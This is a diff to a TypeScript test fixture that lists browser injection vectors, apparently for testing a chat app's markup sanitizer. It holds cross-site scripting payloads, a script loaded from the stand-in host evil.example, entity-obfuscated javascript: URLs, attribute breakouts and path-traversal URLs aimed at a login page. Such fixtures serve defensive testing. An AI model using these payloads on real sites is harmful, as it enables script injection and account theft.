@@ -1,9 +1,9 @@
 /**
- * Texts that try to become more than text: known ways to have a browser run a script or load something, woven into every
- * construct of the dialect, names and page data included.
+ * Injection attacks: known ways to make a browser run a script or load something, inside every construct of the dialect,
+ * including names and page data.
  */
 
-/** Each would do something if a browser took it for markup, an address or a style. */
+/** Each would have an effect if a browser parsed it as markup, a URL or a style. */
 export const vectors: readonly string[] = [
   "<script>alert(1)</script>",
   "<script src=//evil.example/x.js></script>",
@@ -85,6 +85,28 @@ export const vectors: readonly string[] = [
   "//evil.example/x.png",
   "http://evil.example/x.png",
   String.raw`\\evil.example\x.png`,
+  String.raw`/\evil.example/x.png`,
+  "/&sol;evil.example/x.png",
+  "/&bsol;evil.example/x.png",
+  "&sol;&sol;evil.example/x.mp4",
+  "&#47;&#x2F;evil.example/x.png",
+  "/&Tab;/evil.example/x.png",
+  "/&NewLine;&sol;evil.example/x.png",
+  "/&amp;sol;evil.example/x.png",
+  "http&colon;&sol;&sol;evil.example/x.png",
+  "http://chat.example.com&bsol;@evil.example/x.png",
+  "javascript&colon;alert&lpar;1&rpar;",
+  "java&Tab;script&colon;alert(1)",
+  "/accounts/login/subdomain/x&quest;.png",
+  "/accounts/login/subdomain/x&num;.png",
+  "/accounts/login/subdomain/x.png",
+  "http://chat.example.com/accounts/login/subdomain/x&#63;.mp4",
+  "http://CHAT.example.com:80/accounts/login/x.png",
+  "http://a@chat.example.com/accounts/login/x.png",
+  "/user_uploads/..&sol;accounts/login/x.png",
+  "/user_uploads/%2e%2e/accounts/login/x.png",
+  "/user_avatars/..%2Faccounts/login/x.png",
+  "http://chat.example.com/static/../accounts/login/x.png",
   "http://x.com/\"onerror='alert(1)'",
   'http://x.com/a.png"onerror="alert(1)',
   "http://x.com/'><script>alert(1)</script>",
@@ -103,7 +125,7 @@ export const vectors: readonly string[] = [
   "{{constructor.constructor('alert(1)')()}}",
 ];
 
-/** Where a text can stand. `X` is the place. */
+/** Constructs around a text, at the position of `X`. */
 export const constructs: readonly string[] = [
   "X",
   "aXb",
